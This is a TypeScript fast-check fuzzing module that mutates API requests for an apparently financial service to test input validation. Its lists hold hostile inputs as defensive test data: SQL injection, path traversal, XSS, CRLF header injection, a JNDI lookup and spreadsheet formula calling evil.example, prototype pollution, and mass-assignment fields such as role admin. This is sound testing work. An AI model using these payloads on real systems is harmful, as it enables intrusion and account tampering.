import fc from 'fast-check';

/** A request on its way to be spoiled. */
export interface Spoilable {
  readonly params: Readonly<Record<string, string>>;
  readonly query: Readonly<Record<string, unknown>> | undefined;
  readonly body: unknown;
}

const LONG = 3_000;
const DEEP = 2_000;

/** What no field of ours takes, or must take as nothing but text. */
const NASTY: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  ' ',
  '\u0000',
  '\r\nset-cookie: florin_sid=stolen',
  '\u001b[31mred',
  '\ud800',
  '１２.００',
  'x'.repeat(LONG),
  [],
  {},
  ['1.00'],
  { $ne: 1 },
  { $gt: '' },
  { length: 1_000_000_000 },
  "' OR 1=1 --",
  "1'; DROP TABLE account; --",
  '%27%20OR%201=1',
  '../../etc/passwd',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example")',
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '{{7*7}}',
  '2026-02-30',
  '9999-99-99',
  '00000000-0000-0000-0000-000000000000',
  'service:gateway',
  'anonymous',
];

/** T30: what is no amount. */
export const NO_AMOUNTS: readonly unknown[] = [
  '-5.00',
  '0.00',
  '1e3',
  '1e400',
  '0.001',
  '1,00',
  '+1.00',
  ' 1.00',
  '1.00 ',
  '0x10',
  '９.９９',
  'NaN',
  'Infinity',
  '',
  '99999999999999999999.00',
  '9'.repeat(40),
  null,
  1,
  1.5,
  true,
  ['1.00'],
  { amount: '1.00' },
];

/** T28: what callers may not say of themselves or of what they make. */
export const NOT_THEIRS: readonly (readonly [string, unknown])[] = [
  ['id', '01a21836-b1cd-7b45-b83b-bc68a8006a04'],
  ['role', 'admin'],
  ['roles', ['admin']],
  ['status', 'active'],
  ['balance', { posted: { amount: '1000000.00', currency: 'EUR' } }],
  ['owners', ['somebody']],
  ['ownerId', 'somebody'],
  ['overdraftMinor', '100000000'],
  ['transferFeeMinor', '0'],
  ['version', 99],
  ['controlVersion', 99],
  ['actor', 'somebody'],
  ['bookedAt', '2020-01-01T00:00:00Z'],
  ['createdAt', '2020-01-01T00:00:00Z'],
  ['kycLevel', 3],
  ['sagaId', '01a21836-b1cd-7b45-b83b-bc68a8006a04'],
  ['constructor', { prototype: { admin: true } }],
  ['toString', 'x'],
];

type Way = readonly (string | number)[];

/** Every way to a value inside of a body, the shortest first. */
function waysInto(value: unknown, way: Way = []): readonly Way[] {
  if (typeof value !== 'object' || value === null) return [way];
  return [way, ...Object.entries(value).flatMap(([name, one]) => waysInto(one, [...way, name]))];
}

/** The body with another value at the end of a way. */
function replaced(body: unknown, way: Way, value: unknown): unknown {
  const [step, ...further] = way;
  if (step === undefined) return value;
  const inside = (body as Readonly<Record<string, unknown>>)[step];
  const next = replaced(inside, further, value);
  if (Array.isArray(body)) return body.map((one, index) => (index === Number(step) ? next : one));
  return { ...(body as object), [step]: next };
}

/** A request as it goes out: what became of its parts. */
export interface Spoilt {
  readonly params: Readonly<Record<string, string>>;
  readonly query: Readonly<Record<string, unknown>> | undefined;
  readonly text: string | undefined;
}

type Spoil = (request: Spoilable) => fc.Arbitrary<Spoilt>;

const nasty = fc.constantFrom(...NASTY, ...NO_AMOUNTS);

const leaveAlone: Spoil = ({ params, query, body }) => fc.constant({ params, query, text: textOf(body) });

const spoilValue: Spoil = ({ params, query, body }) =>
  fc
    .tuple(fc.constantFrom(...waysInto(body)), nasty)
    .map(([way, value]) => ({ params, query, text: textOf(replaced(body, way, value)) }));

const addField: Spoil = ({ params, query, body }) =>
  fc.constantFrom(...NOT_THEIRS).map(([name, value]) => ({
    params,
    query,
    text: textOf(typeof body === 'object' && body !== null ? { ...body, [name]: value } : { [name]: value }),
  }));

/** What is broken before anybody reads a field: JSON that is none, that says things twice, or that never ends. */
const spoilText: Spoil = ({ params, query, body }) => {
  const text = textOf(body) ?? '{}';
  return fc
    .constantFrom(
      text.slice(0, -1),
      `${text}${text}`,
      `\ufeff${text}`,
      text.replace('{', '{"__proto__":{"admin":true},'),
      text.replace('{', '{"amount":"1.00",'),
      text.replace(/"amount":"[^"]*"/, '"amount":1e400'),
      '['.repeat(DEEP),
      '{"a":'.repeat(DEEP),
      '"\\ud800"',
      'null',
      '[]',
      '7',
      `{${Array.from({ length: DEEP }, (_, index) => `"k${index}":1`).join(',')}}`,
    )
    .map((spoilt) => ({ params, query, text: spoilt }));
};

const spoilQuery: Spoil = ({ params, query, body }) =>
  fc
    .tuple(fc.constantFrom(...Object.keys(query ?? {}), 'limit', 'sort', '__proto__', 'constructor', '$where'), nasty)
    .map(([name, value]) => ({ params, query: { ...query, [name]: value }, text: textOf(body) }));

const spoilParam: Spoil = ({ params, query, body }) =>
  fc
    .tuple(fc.constantFrom(...Object.keys(params), 'none'), fc.constantFrom(...NASTY))
    .map(([name, value]) => ({ params: { ...params, [name]: String(value) }, query, text: textOf(body) }));

/** One request, spoilt in one of many ways, or left as it is. */
export function spoilt(request: Spoilable): fc.Arbitrary<Spoilt> {
  const ways = [leaveAlone, spoilQuery, spoilText];
  if (Object.keys(request.params).length > 0) ways.push(spoilParam);
  if (request.body !== undefined) ways.push(spoilValue, spoilValue, spoilValue, addField);
  return fc.constantFrom(...ways).chain((spoil) => spoil(request));
}

function textOf(body: unknown): string | undefined {
  return body === undefined ? undefined : JSON.stringify(body);
}
